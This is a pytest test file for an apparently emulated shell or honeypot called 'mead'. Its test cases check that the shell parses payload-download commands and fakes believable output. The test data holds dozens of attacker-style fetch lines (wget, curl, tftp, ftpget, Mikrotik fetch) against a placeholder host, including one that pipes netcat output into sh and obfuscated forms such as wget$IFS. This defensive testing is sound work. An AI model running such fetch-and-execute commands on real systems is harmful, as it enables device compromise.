# SPDX-License-Identifier: Apache-2.0

"""Every way to name a place to get a body from."""

from __future__ import annotations

import pytest

from mead.shell import Offer, Shell


@pytest.mark.parametrize(
    ("line", "url", "path", "agent"),
    [
        ("wget http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/x", "Wget"),
        ("wget 192.0.2.1/d/x", "http://192.0.2.1/d/x", "/tmp/x", "Wget"),
        ("wget http://192.0.2.1", "http://192.0.2.1/", "/tmp/index.html", "Wget"),
        ("wget -q -P /var http://192.0.2.1/x", "http://192.0.2.1/x", "/var/x", "Wget"),
        ("wget -P/var http://192.0.2.1/x?id=1", "http://192.0.2.1/x?id=1", "/var/x", "Wget"),
        ("wget -O- http://192.0.2.1/x", "http://192.0.2.1/x", None, "Wget"),
        ("wget -U Mozilla/5.0 http://192.0.2.1/x -O y", "http://192.0.2.1/x", "/tmp/y", "Mozilla/5.0"),
        (
            "wget --no-check-certificate --output-document=y https://192.0.2.1:8443/x",
            "https://192.0.2.1:8443/x",
            "/tmp/y",
            "Wget",
        ),
        ("busybox wget http://192.0.2.1/x -O - > y", "http://192.0.2.1/x", None, "Wget"),
        ("curl http://192.0.2.1/x", "http://192.0.2.1/x", None, "curl/7.88.1"),
        ("curl -sSL -A bot -o y http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/y", "bot"),
        ("curl -O http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/x", "curl/7.88.1"),
        ("curl --output y --url http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/y", "curl/7.88.1"),
        ("tftp -g -r x 192.0.2.1", "tftp://192.0.2.1/x", "/tmp/x", None),
        ("tftp -g -l y -r d/x 192.0.2.1 6969", "tftp://192.0.2.1:6969/d/x", "/tmp/y", None),
        ("tftp 192.0.2.1 -c get x", "tftp://192.0.2.1/x", "/tmp/x", None),
        ("tftp -r x -g 192.0.2.1", "tftp://192.0.2.1/x", "/tmp/x", None),
        ("ktftp 192.0.2.1 -c get x", "tftp://192.0.2.1/x", "/tmp/x", None),
        ("printf 'binary\\nget x y\\n' | tftp 192.0.2.1", "tftp://192.0.2.1/x", "/tmp/y", None),
        ("ftpget -u anonymous -p anonymous -P 21 192.0.2.1 y x", "ftp://192.0.2.1/x", "/tmp/y", None),
        ("ftpget -u bob -p s3:c 192.0.2.1 x", "ftp://bob:s3%3Ac@192.0.2.1/x", "/tmp/x", None),
        ("ftpget -P 2121 192.0.2.1 y d/x", "ftp://192.0.2.1:2121/d/x", "/tmp/y", None),
        ("ftp -n <<E\nopen 192.0.2.1\nuser a b\nget x\nE", "ftp://192.0.2.1/x", "/tmp/x", None),
        ("nc 192.0.2.1 4444 > y", "tcp://192.0.2.1:4444", None, None),
        ("nc -w 5 192.0.2.1 4444 < /dev/null | sh", "tcp://192.0.2.1:4444", None, None),
        ("lwp-download http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/x", "lwp-download/6.67"),
        ("fetch -o y http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/y", "fetch libfetch/2.0"),
        ("axel http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/x", "Axel/2.17.11 (Linux)"),
        ("lynx -source http://192.0.2.1/x > y", "http://192.0.2.1/x", None, None),
        (
            "/tool fetch url=http://192.0.2.1/x mode=http dst-path=y",
            "http://192.0.2.1/x",
            "/tmp/y",
            "Mikrotik/6.x Fetch",
        ),
        (
            "/tool fetch address=192.0.2.1 src-path=x mode=ftp user=a",
            "ftp://192.0.2.1/x",
            "/tmp/x",
            "Mikrotik/6.x Fetch",
        ),
        (
            ':do { /tool fetch url="http://192.0.2.1/x" } on-error={}',
            "http://192.0.2.1/x",
            "/tmp/x",
            "Mikrotik/6.x Fetch",
        ),
        ("cp /bin/busybox /tmp/wget; ./wget http://192.0.2.1/x", "http://192.0.2.1/x", "/tmp/x", "Wget"),
        ("u=http://192.0.2.1; for f in x; do wget $u/$f; done", "http://192.0.2.1/x", "/tmp/x", "Wget"),
        ("wget$IFS'http://192.0.2.1/x'", "http://192.0.2.1/x", "/tmp/x", "Wget"),
        ("wget http://192.0.2.1/x\r", "http://192.0.2.1/x", "/tmp/x", "Wget"),
    ],
)
def test_a_tool_makes_an_offer(
    shell: Shell, line: str, url: str, path: str | None, agent: str | None
) -> None:
    shell.run(b"cd /tmp")
    (offer,) = (effect for effect in shell.run(line.encode()).effects if isinstance(effect, Offer))
    assert (offer.url, offer.path, offer.user_agent) == (url, path, agent)


def test_several_places_are_several_offers(shell: Shell) -> None:
    reply = shell.run(
        b"cd /tmp; wget http://192.0.2.1/a http://192.0.2.1/b; curl -O http://192.0.2.1/c -O http://192.0.2.1/d"
    )
    assert [effect.url[-1] for effect in reply.effects if isinstance(effect, Offer)] == ["a", "b", "c", "d"]


@pytest.mark.parametrize("tool", ["wget", "tftp", "ftpget", "nc"])
def test_a_tool_without_arguments_prints_its_usage(shell: Shell, tool: str) -> None:
    reply = shell.run(f"/bin/busybox {tool}".encode())
    assert reply.output.startswith(
        f"BusyBox v1.20.2 (2016-07-22 16:33:01 CST) multi-call binary.\n\nUsage: {tool} ".encode()
    )
    assert (reply.status, len(reply.effects)) == (1, 1)


def test_a_download_looks_done(shell: Shell, server: Shell) -> None:
    reply = shell.run(b"cd /tmp; wget http://192.0.2.1/x; ls -l x")
    assert b"100% |****" in reply.output
    assert int(reply.output.split(b"-rw-r--r--")[1].split()[3]) > 1000
    assert "‘x’ saved".encode() in server.run(b"wget http://192.0.2.1/x").output
    assert server.run(b"curl -s -O http://192.0.2.1/x").output == b""


def test_where_nothing_can_be_written_the_tool_says_so(shell: Shell) -> None:
    reply = shell.run(b"wget http://192.0.2.1/x -O /proc/x")
    assert (reply.output, reply.status) == (b"wget: can't open '/proc/x': No such file or directory\n", 1)
